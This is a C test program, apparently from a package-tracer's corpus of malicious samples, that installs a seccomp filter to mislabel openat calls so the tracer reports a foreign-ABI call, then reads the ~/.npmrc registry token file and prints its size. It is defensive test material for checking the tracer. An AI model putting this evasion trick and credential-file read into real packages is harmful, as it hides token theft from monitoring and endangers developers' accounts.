// MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only through `pkgtrace run`.
//
// Steers the tracer through seccomp: when several filters return
// SECCOMP_RET_TRACE, the kernel hands the tracer the data of the newest
// one. This filter returns SECCOMP_RET_TRACE with data 2 for openat, the
// value pkgtrace's own filter uses for "a call through a foreign ABI", so a
// tracer that trusts the data reports a foreign call and no open. Then it
// reads ~/.npmrc (the registry token) and prints how much it got.
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void) {
    struct sock_filter f[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_TRACE | 2),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = {sizeof f / sizeof f[0], f};
    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) || syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog)) {
        perror("steer: seccomp");
        return 0;
    }
    char path[512];
    snprintf(path, sizeof path, "%s/.npmrc", getenv("HOME") ? getenv("HOME") : "/home/pkgtrace");
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        perror("steer: open");
        return 0;
    }
    char buf[4096];
    ssize_t n = read(fd, buf, sizeof buf);
    printf("steer: read %zd bytes of %s\n", n, path);
    return 0;
}
